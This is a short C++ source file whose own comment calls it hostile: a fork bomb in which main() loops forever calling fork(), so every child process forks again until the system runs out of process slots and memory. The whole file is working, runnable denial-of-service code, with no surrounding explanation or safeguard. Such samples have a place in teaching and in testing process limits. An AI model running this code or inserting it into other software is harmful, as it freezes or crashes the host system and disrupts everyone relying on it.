// Hostile: a fork bomb. Every fork() that works forks again.
#include <unistd.h>
int main() {
  for (;;) ::fork();
}
